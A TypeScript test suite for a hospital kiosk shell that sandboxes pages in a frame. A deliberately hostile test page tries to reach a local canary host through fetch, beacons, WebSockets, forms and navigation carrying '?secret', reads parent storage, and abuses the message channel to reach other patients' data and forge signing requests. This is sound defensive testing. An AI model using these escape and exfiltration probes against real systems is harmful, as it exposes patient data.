// The cage: a hostile page tries the ways out that shell.md section 7 lists, against a canary that counts
// what reaches it, and tries the channel. What this cannot stop (probes 9 and 14) is the kiosk's flags
// and firewall: see README.md.
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import t from 'tap'
import { personPassword, type SmallNode } from '../host/api/small-node.fixture.js'
import { browserSkipReason, openBench, pageOf, type ScreenBench } from './bench.fixture.js'
import { addAlert, lisa, setTheScene } from './lisa.fixture.js'

const skip = browserSkipReason() ?? false

interface Canary {
  server: Server
  port: number
  heard: string[]
}

/** Hears every connection, not only whole requests. */
async function startCanary(): Promise<Canary> {
  const heard: string[] = []
  const server = createServer((request, response) => {
    heard.push(request.url ?? '')
    response.setHeader('access-control-allow-origin', '*')
    response.end('canary')
  })
  server.on('connection', () => heard.push('connection'))
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return { server, port: (server.address() as AddressInfo).port, heard }
}

/** Says hello like an honest page, keeps the port in `channel`, then runs the probe's own script. */
const hostilePage = (script: string): Uint8Array =>
  new TextEncoder()
    .encode(`<!doctype html><html lang="en"><title>hostile</title><body><p id="out">waiting</p><script>
const out = (text) => { document.getElementById('out').textContent = text }
window.addEventListener('message', (event) => {
  if (!event.ports[0]) return
  const channel = event.ports[0]
  const answers = []
  channel.onmessage = (message) => { if (message.data.event !== 'tick') answers.push(message.data) }
  const settle = (name, make) => Promise.resolve().then(make).then((value) => name + ':OPEN:' + value, (error) => name + ':blocked')
  ;(async () => { ${script} })().catch((error) => out('error ' + error.message))
})
parent.postMessage({ wardchain: 'hello', version: 1 }, '*')
</script></body></html>`)

async function openHostile(
  t: { teardown(run: () => Promise<void>): void },
  script: string,
  prepare: (node: SmallNode) => void = () => undefined,
): Promise<ScreenBench & { canary: Canary }> {
  const canary = await startCanary()
  const bench = await openBench()
  t.teardown(async () => {
    await bench.close()
    await new Promise((resolve) => canary.server.close(resolve))
  })
  setTheScene(bench.node)
  prepare(bench.node)
  bench.node.setPage(pageOf(hostilePage(script.replaceAll('CANARY', `127.0.0.1:${canary.port}`))))
  await bench.driver.signIn('Ward nurse', personPassword)
  const { page } = bench.driver
  await page.getByTestId('patient').filter({ hasText: 'JONES' }).click()
  return { ...bench, canary }
}

t.test('requests, storage, parent and windows are blocked', { skip }, async (t) => {
  const { driver, canary, warned } = await openHostile(
    t,
    `
    const socket = (url) => new Promise((resolve, reject) => {
      const opened = new WebSocket(url)
      opened.onopen = () => resolve('open')
      opened.onerror = () => reject(new Error('no'))
    })
    const image = (url) => new Promise((resolve, reject) => {
      const element = new Image()
      element.onload = () => resolve('loaded')
      element.onerror = () => reject(new Error('no'))
      element.src = url
    })
    const results = await Promise.all([
      settle('fetch-own', () => fetch('/v1/status')),
      settle('fetch-own-absolute', () => fetch(location.origin + '/v1/status')),
      settle('fetch-other', () => fetch('http://CANARY/fetch')),
      settle('image', () => image('http://CANARY/image')),
      settle('image-own', () => image('/shell.js')),
      settle('websocket', () => socket('ws://CANARY/socket')),
      settle('websocket-own', () => socket('ws://' + location.host + '/v1/subscribe')),
      settle('local-storage', () => localStorage.setItem('a', 'b')),
      settle('session-storage', () => sessionStorage.length),
      settle('indexed-db', () => new Promise((resolve, reject) => {
        const opening = indexedDB.open('x')
        opening.onsuccess = resolve
        opening.onerror = () => reject(new Error('no'))
      })),
      settle('cookie', () => { document.cookie = 'a=b'; return document.cookie }),
      settle('parent-document', () => parent.document.title),
      settle('parent-storage', () => parent.localStorage.length),
      settle('open-window', () => { if (!window.open('http://CANARY/window')) throw new Error('no'); return 'open' }),
      settle('worker', () => new Promise((resolve, reject) => {
        const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))
        worker.onmessage = resolve
        worker.onerror = () => reject(new Error('no'))
      })),
      settle('wasm', () => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))),
      settle('eval', () => eval('1')),
      settle('beacon', () => { navigator.sendBeacon('http://CANARY/beacon'); return new Promise((_, reject) => setTimeout(reject, 300)) }),
      settle('style-import', () => new Promise((resolve, reject) => {
        const link = document.createElement('link')
        link.rel = 'stylesheet'
        link.href = 'http://CANARY/style'
        link.onload = resolve
        link.onerror = () => reject(new Error('no'))
        document.head.append(link)
      })),
      settle('form', () => {
        const form = document.createElement('form')
        form.action = 'http://CANARY/form'
        document.body.append(form)
        form.submit()
        return new Promise((_, reject) => setTimeout(reject, 300))
      }),
    ])
    out(results.join(' '))
    `,
  )
  const text = await driver.frame.locator('#out').filter({ hasText: ':' }).innerText()
  const results = text.split(' ')
  t.equal(results.length, 20)
  for (const result of results) t.match(result, /:blocked$/)
  t.same(canary.heard, [], 'nothing reached the canary, not even a connection')
  t.notOk(
    warned.some((line) => line.includes('subscribe')),
    'not even a refused request came to the node',
  )
})

t.test('the probes can fail: without the cage the same ways are open', { skip }, async (t) => {
  const canary = await startCanary()
  const bench = await openBench()
  t.teardown(async () => {
    await bench.close()
    await new Promise((resolve) => canary.server.close(resolve))
  })
  const { page } = bench.driver
  await page.goto(`http://127.0.0.1:${canary.port}/page`)
  const fetched = await page.evaluate(
    (url) => fetch(url).then((response) => response.text()),
    `http://127.0.0.1:${canary.port}/fetch`,
  )
  t.equal(fetched, 'canary')
  t.ok(canary.heard.includes('/fetch'))
})

t.test(
  'top navigation is blocked; self navigation stops at the frame policy and closes the page',
  { skip },
  async (t) => {
    const top = await openHostile(
      t,
      `try { top.location = 'http://CANARY/top' } catch (error) {}
     setTimeout(() => out('done'), 300)`,
    )
    await top.driver.frame.locator('#out').filter({ hasText: 'done' }).waitFor()
    t.match(top.driver.page.url(), new RegExp(`^${top.api.url}`))
    t.same(top.canary.heard, [])

    const self = await openHostile(t, `location = 'http://CANARY/self?secret'`)
    const word = self.driver.page.getByTestId('frame-word')
    await word.filter({ hasText: 'tried to leave its place' }).waitFor()
    const requests = self.canary.heard.filter((entry) => entry.startsWith('/'))
    t.same(
      requests,
      [],
      'no request, so no secret; the bare connection is the kiosk proxy’s to stop, as for probe 14',
    )
    t.equal(await self.driver.page.locator('iframe').count(), 0)
  },
)

t.test(
  'the channel: only the open patient by handle, only what the manifest names',
  { skip },
  async (t) => {
    const { driver, node } = await openHostile(
      t,
      `
    let id = 0
    const ask = (method, args) => new Promise((resolve) => {
      const wanted = ++id
      channel.onmessage = (message) => { if (message.data.id === wanted) resolve(message.data) }
      channel.postMessage({ id: wanted, method, args })
    })
    const context = await ask('context', {})
    const handle = context.value.patient
    const subject = await ask('alerts', { patient: '${lisa}' })
    const own = await ask('records', { patient: handle, kind: 'observation', limit: 5 })
    const beyond = await ask('records', { patient: handle, kind: 'admission', limit: 5 })
    const call = await ask('propose', { patient: handle, proposal: { type: 'call', target: 'ward/governance', method: 'deploy', args: {} } })
    const append = await ask('propose', { patient: handle, proposal: { type: 'append', records: [{ kind: 'finding', code: 'x', body: {} }] } })
    const leaks = JSON.stringify([context, own]).includes('${lisa}')
    const patients = own.value.records.every((record) => record.patient === handle)
    out([handle.length, subject.code, own.ok, beyond.code, call.code, append.code, leaks, patients].join(' '))
    `,
    )
    const text = await driver.frame.locator('#out').filter({ hasText: 'true' }).innerText()
    t.equal(text, '24 NOT_FOUND true READ_NOT_GRANTED READ_NOT_GRANTED READ_NOT_GRANTED false true')
    t.equal(node.signed.length, 0)
    t.equal(await driver.page.getByTestId('signing-dialog').count(), 0)
  },
)

t.test('misbehaviour ends the page: nonsense, a flood, silence', { skip }, async (t) => {
  const cases: [script: string, words: string][] = [
    [`channel.postMessage({ id: 1, method: 'fetch', args: {} })`, 'sent something that it may not'],
    [
      `channel.postMessage({ id: 1, method: 'context', args: { a: 'x'.repeat(70000) } })`,
      'more than it may',
    ],
    [
      `for (let i = 1; i < 60; i += 1) channel.postMessage({ id: i, method: 'context', args: {} })`,
      'more than it may',
    ],
    [`channel.onmessage = null`, 'no longer answers'],
  ]
  for (const [script, words] of cases) {
    const { driver } = await openHostile(t, script)
    await driver.page.getByTestId('frame-word').filter({ hasText: words }).waitFor()
    t.equal(await driver.page.locator('iframe').count(), 0, words)
    t.match(await driver.page.getByTestId('banner').innerText(), /JONES/, 'the banner stays')
  }
})

t.test(
  'a page cannot sign: the dialog is the shell’s, from the bytes, and takes no key from the frame',
  { skip },
  async (t) => {
    const { driver, node } = await openHostile(
      t,
      `
    const context = await new Promise((resolve) => {
      channel.onmessage = (message) => { if (message.data.id === 1) resolve(message.data.value) }
      channel.postMessage({ id: 1, method: 'context', args: {} })
    })
    const alerts = await new Promise((resolve) => {
      channel.onmessage = (message) => { if (message.data.id === 2) resolve(message.data.value.alerts) }
      channel.postMessage({ id: 2, method: 'alerts', args: { patient: context.patient } })
    })
    const propose = (id) => channel.postMessage({ id, method: 'propose', args: { patient: context.patient, proposal: {
      type: 'call', target: 'ward/alerts', method: 'acknowledge',
      args: { alert: alerts[0].id, response: 'disagree', reason: 'harmless words from the frame' } } } })
    channel.onmessage = (message) => { if (message.data.id === 4) out(message.data.code) }
    propose(3)
    propose(4)
    window.focus()
    `,
      (node) => addAlert(node),
    )
    const { page } = driver
    const dialog = page.getByTestId('signing-dialog')
    await dialog.waitFor()
    const words = await dialog.innerText()
    t.match(
      words,
      /I answer: disagree[\s\S]*Suspected sepsis: infected wound[\s\S]*harmless words from the frame/,
    )
    t.match(words, /signing on this computer[\s\S]*JONES, Lisa/)
    const box = await dialog.boundingBox()
    const frameBox = await page.locator('.frame').boundingBox()
    t.ok(box && frameBox && box.y < frameBox.y, 'its band lies above any frame')
    t.equal(await page.locator('iframe').isVisible(), false)
    t.equal(
      await dialog.evaluate((element) => element.contains(document.activeElement)),
      true,
      'the frame took no focus',
    )
    t.equal(node.signed.length, 0)
  },
)

t.test('bytes that are not the chain’s are not shown', { skip }, async (t) => {
  const { driver, api } = await openHostile(t, `out('first')`)
  const { page } = driver
  await driver.frame.locator('#out').filter({ hasText: 'first' }).waitFor()
  // Between node and shell something changes one byte: the shell must see it.
  await page.route(`${api.url}/v1/page?*`, async (route) => {
    const response = await route.fetch()
    const body = (await response.json()) as { page: { htmlBase64: string } }
    body.page.htmlBase64 = Buffer.from('<p>other</p>').toString('base64')
    await route.fulfill({ response, json: body })
  })
  await driver.closePatient()
  await page.getByTestId('patient').filter({ hasText: 'JONES' }).click()
  await page.getByTestId('frame-word').filter({ hasText: 'not the one that the chain names' }).waitFor()
  t.equal(await page.locator('iframe').count(), 0)
})

t.test('another version on the chain replaces the running page', { skip }, async (t) => {
  const { driver, node } = await openHostile(t, `out('first')`)
  await driver.frame.locator('#out').filter({ hasText: 'first' }).waitFor()
  node.setPage(pageOf(hostilePage(`out('second')`), { version: '2.0.0' }))
  await driver.frame.locator('#out').filter({ hasText: 'second' }).waitFor()
  t.equal(await driver.page.locator('iframe').count(), 1)
})
